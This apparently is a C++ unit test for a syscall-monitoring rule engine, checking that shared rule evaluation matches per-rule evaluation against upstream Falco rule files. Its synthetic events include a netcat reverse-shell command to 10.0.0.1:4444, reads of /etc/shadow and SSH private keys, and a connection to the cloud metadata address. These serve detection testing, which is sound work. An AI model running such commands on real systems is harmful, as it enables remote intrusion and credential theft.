// The Engine shares sub-condition results between rules within one event and evaluates rules
// with their evt.type checks folded for the event's type (RuleSet::plan_for): on the upstream
// rule files it must report exactly the rules that evaluating each compiled rule on its own
// reports.
#include <fcntl.h>
#include <netinet/in.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <optional>
#include <string>
#include <vector>

#include "engine/engine.h"
#include "engine/load.h"
#include "event/event_builders.h"
#include "event/field_registry.h"

namespace lanner::engine {
namespace {

using namespace lanner::event::testing;
using event::SyscallEvent;

std::vector<SyscallEvent> sample_events() {
  auto sshd = make_process(400, "sshd", "/usr/sbin/sshd", {"-D"});
  auto bash = make_process(500, "bash", "/bin/bash", {});
  bash->parent = sshd;
  std::vector<SyscallEvent> out;
  SyscallEvent exec = make_event("execve");
  auto nc = make_process(600, "nc", "/usr/bin/nc", {"-e", "/bin/sh", "10.0.0.1", "4444"});
  nc->parent = bash;
  exec.process = nc;
  exec.argv = {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"};
  set_arg_data(exec, 0, "/usr/bin/nc", "/usr/bin/nc");
  out.push_back(exec);
  for (const char* path : {"/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/tmp/x", "/etc/ld.so.cache"}) {
    for (int flags : {O_RDONLY, O_WRONLY | O_CREAT}) {
      // Result unset: the monitor's evaluation at syscall entry (fd.num, evt.res missing).
      for (std::optional<int64_t> result : {std::optional<int64_t>(3), std::optional<int64_t>(-13),
                                            std::optional<int64_t>()}) {
        SyscallEvent open = make_event("openat");
        auto cat = make_process(700, "cat", "/usr/bin/cat", {path});
        cat->parent = bash;
        open.process = cat;
        open.raw = {static_cast<uint64_t>(AT_FDCWD), 0, static_cast<uint64_t>(flags), 0644, 0, 0};
        set_arg_data(open, 1, path, path);
        open.has_fd = true;
        open.fd.type = event::FdType::kFile;
        open.fd.name = open.fd.nameraw = path;
        open.result = result;
        if (result) open.fd.num = *result >= 0 ? *result : -1;
        out.push_back(open);
      }
    }
  }
  // Outbound connections (the inbound/outbound macros start with evt.type checks folded per
  // type), with and without a result, and a type no rule names (the unspecialised bucket).
  for (const char* ip : {"127.0.0.1", "10.0.0.1", "169.254.169.254", "8.8.8.8"}) {
    for (bool with_result : {false, true}) {
      SyscallEvent connect = make_event("connect");
      auto curl = make_process(800, "curl", "/usr/bin/curl", {"-s", "http://service/"});
      curl->parent = bash;
      connect.process = curl;
      connect.raw = {5, 0x1000, 16, 0, 0, 0};
      connect.data[1] = sockaddr_in_bytes(ip, 443);
      connect.data_ok[1] = true;
      connect.has_fd = true;
      connect.fd.num = 5;
      connect.fd.type = event::FdType::kIpv4;
      connect.fd.l4proto = IPPROTO_TCP;
      connect.fd.has_tuple = true;
      connect.fd.local = endpoint_v4("10.0.0.2", 40000);
      connect.fd.remote = endpoint_v4(ip, 443);
      if (with_result) connect.result = 0;
      out.push_back(connect);
    }
  }
  SyscallEvent other = make_event("tkill");
  other.process = bash;
  out.push_back(other);
  return out;
}

TEST(SharedEvaluation, EngineMatchesPerRuleEvaluationOnUpstreamRules) {
  std::vector<std::string> paths;
  for (const char* n : {"falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"}) {
    paths.push_back(std::string(LANNER_UPSTREAM_RULES_DIR) + "/" + n);
    if (!std::filesystem::exists(paths.back())) GTEST_SKIP() << "upstream rule files not found";
  }
  LoadResult r = load_rule_files(paths, event::field_catalog());
  ASSERT_TRUE(r.ruleset);
  Engine engine(*r.ruleset, RuleMatching::kAll);
  event::EventFieldSource source;
  std::vector<const CompiledRule*> matches;
  size_t total_matches = 0;
  for (const SyscallEvent& ev : sample_events()) {
    ASSERT_NE(ev.syscall, nullptr);
    std::string type(ev.syscall->name);
    source.reset(ev);
    engine.evaluate(type, source, matches);
    std::vector<const CompiledRule*> expected;
    for (const CompiledRule* rule : r.ruleset->rules_for(type)) {
      source.reset(ev);
      lang::EvalScratch fresh;  // event_generation 0: nothing shared
      if (rule->predicate->matches(source, fresh)) expected.push_back(rule);
    }
    EXPECT_EQ(matches, expected) << type << " " << ev.fd.name;
    total_matches += matches.size();
  }
  EXPECT_GT(total_matches, 0u);  // the sample does trigger rules (e.g. reading /etc/shadow)
}

}  // namespace
}  // namespace lanner::engine
